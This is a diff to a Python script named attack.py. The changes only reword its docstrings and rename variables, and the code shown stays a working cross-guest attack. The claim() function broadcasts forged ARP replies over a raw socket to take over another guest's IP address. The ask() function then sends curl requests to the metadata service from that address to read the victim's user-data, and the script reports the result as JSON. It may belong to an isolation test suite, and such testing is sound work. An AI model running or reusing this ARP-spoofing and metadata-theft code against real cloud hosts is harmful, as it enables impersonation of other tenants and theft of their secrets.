@@ -1,6 +1,6 @@
-"""Run in a guest: takes the address of another one, and asks for that one's user-data.
+"""Runs in a guest: takes the address of another guest and asks for its user-data.
 
-attack.py ADDRESS: prints a line of JSON with what came of it.
+attack.py ADDRESS: prints the result as one line of JSON.
 """
 
 import json
@@ -22,21 +22,21 @@ done = threading.Event()
 
 
 def claim():
-    """Says over and over that the address is at this machine's MAC (RFC 826, a reply)."""
-    everybody = b"\xff" * 6
+    """Announces the address with this machine's MAC in ARP replies (RFC 826) until it is done."""
+    broadcast = b"\xff" * 6
     wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     wire.bind((device, 0))
     while not done.wait(0.3):
         for target in (gateway, address):
             reply = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own_mac + socket.inet_aton(address)
-            reply += everybody + socket.inet_aton(target)
-            wire.send(everybody + own_mac + b"\x08\x06" + reply)
+            reply += broadcast + socket.inet_aton(target)
+            wire.send(broadcast + own_mac + b"\x08\x06" + reply)
 
 
 def ask(path):
     command = ["curl", "-s", "--interface", address, "--max-time", "3", "-w", "\n%{http_code}"]
-    said = subprocess.run(command + [f"http://{metadata}/{path}"], capture_output=True, text=True)
-    body, _, status = said.stdout.rpartition("\n")
+    result = subprocess.run(command + [f"http://{metadata}/{path}"], capture_output=True, text=True)
+    body, _, status = result.stdout.rpartition("\n")
     return int(status), body
 
 
